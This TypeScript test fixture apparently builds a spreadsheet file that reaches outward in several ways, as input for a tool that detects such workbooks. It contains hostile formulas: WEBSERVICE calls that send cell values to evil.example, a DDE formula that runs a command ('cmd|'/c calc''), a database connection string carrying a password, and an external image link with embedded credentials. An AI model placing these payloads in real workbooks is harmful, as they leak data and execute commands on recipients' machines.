import { handMade } from "./xlsx.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006";
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

const relationship = (id: string, type: string, target: string, mode = ""): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`;
const relationships = (...of: readonly string[]): string =>
  `<Relationships xmlns="${PACKAGE}/relationships">${of.join("")}</Relationships>`;
const override = (part: string, type: string): string =>
  `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${type}+xml"/>`;
/** A workbook that fetches in every other way: connections, queries, functions, a linked picture. */
export const fetching = handMade({
  sheets: [
    `<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("https://evil.example/?q="&amp;B1)</f><v>12</v></c><c r="B1"><f>rate*2</f><v>3</v></c><c r="C1" t="str"><f>HYPERLINK("https://evil.example/"&amp;B1,"here")</f><v>here</v></c></row>
     <row r="2"><c r="A2" t="str"><f>HYPERLINK("#Sheet1!A1","up")</f><v>up</v></c><c r="B2"><f>SUM(Sales[2021])</f><v>5</v></c><c r="C2" t="str"><f>"cmd|'/c'!A0 and [1]x!y"</f><v>x</v></c><c r="D2"><f>cmd|'/c calc'!A0</f><v>8</v></c></row>
     <row r="4"><c r="A4" t="inlineStr"><is><t>2021</t></is></c></row><row r="5"><c r="A5"><v>5</v></c></row>`,
  ],
  parts: {
    "[Content_Types].xml": `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${override("xl/workbook.xml", "sheet.main")}${override("xl/worksheets/sheet1.xml", "worksheet")}${override("xl/styles.xml", "styles")}${override("xl/sharedStrings.xml", "sharedStrings")}${override("xl/tables/table1.xml", "table")}${override("xl/connections.xml", "connections")}${override("xl/queryTables/queryTable1.xml", "queryTable")}</Types>`,
    "xl/workbook.xml": `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="rate">_xlfn.WEBSERVICE("https://evil.example")</definedName><definedName name="own">Sheet1!$A$1</definedName></definedNames></workbook>`,
    "xl/_rels/workbook.xml.rels": relationships(
      relationship("rId1", "worksheet", "worksheets/sheet1.xml"),
      relationship("rIdStyles", "styles", "styles.xml"),
      relationship("rIdStrings", "sharedStrings", "sharedStrings.xml"),
      relationship("rId8", "connections", "connections.xml"),
      relationship("rId9", "customXml", "../customXml/item1.xml"),
    ),
    "xl/connections.xml": `<connections xmlns="${MAIN}"><connection id="1" name="Sales" type="5" refreshedVersion="8"><dbPr connection="Server=evil.example;Password=hunter2" command="x"/></connection></connections>`,
    "xl/worksheets/_rels/sheet1.xml.rels": relationships(
      relationship("rId1", "table", "../tables/table1.xml"),
      relationship("rId2", "image", "https://user:secret@evil.example/pixel.png?who=me", ' TargetMode="External"'),
      relationship("rId3", "hyperlink", "https://evidence.example/report", ' TargetMode="External"'),
    ),
    "xl/tables/table1.xml": `<table xmlns="${MAIN}" id="1" name="Sales" displayName="Sales" ref="A4:A5" tableType="queryTable" totalsRowShown="0"><tableColumns count="1"><tableColumn id="1" uniqueName="1" name="2021" queryTableFieldId="1"/></tableColumns></table>`,
    "xl/tables/_rels/table1.xml.rels": relationships(
      relationship("rId1", "queryTable", "../queryTables/queryTable1.xml"),
    ),
    "xl/queryTables/queryTable1.xml": `<queryTable xmlns="${MAIN}" name="ExternalData_1" connectionId="1" autoFormatId="16"/>`,
    "customXml/item1.xml": new Uint8Array(
      Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="x">UEsDBBQ</DataMashup>', "utf16le"),
    ),
  },
});
